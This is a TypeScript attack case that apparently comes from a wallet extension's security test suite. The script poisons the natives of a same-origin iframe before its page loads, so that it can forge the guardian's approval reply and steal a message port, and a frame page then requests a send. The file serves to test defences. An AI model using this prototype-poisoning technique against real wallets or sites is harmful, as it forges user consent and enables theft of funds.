import type { Attack } from '../Attack.ts';

/** The window of a frame's first blank document is used again for a same-origin page: what the parent patched stays patched. */
export const attack: Attack = {
  entry: 'same-origin frame',
  mechanism: "natives poisoned before the frame's page loads, to forge the guardian's reply",
  discovers: false,
  script: `
const frame = kit.frame({ src: '/frame.html' });
const realm = frame.contentWindow;
const listeners = new Map();
const { addEventListener } = realm.EventTarget.prototype;
const { postMessage } = realm.MessagePort.prototype;
realm.EventTarget.prototype.addEventListener = function (type, listener, options) {
  if (this instanceof realm.MessagePort) listeners.set(this, listener);
  return addEventListener.call(this === window ? realm : this, type, listener, options);
};
realm.MessagePort.prototype.postMessage = function (message, ...rest) {
  if (message && message.id) setTimeout(() => {
    for (const t of ['go']) listeners.get(this)?.(new realm.MessageEvent('message', { data: { t, id: message.id } }));
  }, 50);
  return postMessage.call(this, message, ...rest);
};
realm.addEventListener('c:port', (event) => { window.stolen = event.ports[0]; }, true);
`,
  files: {
    '/frame.html': `<!doctype html><script><!--kit-->
kit.wallet().then((wallet) => wallet.request(kit.send()));
</script>`,
  },
};
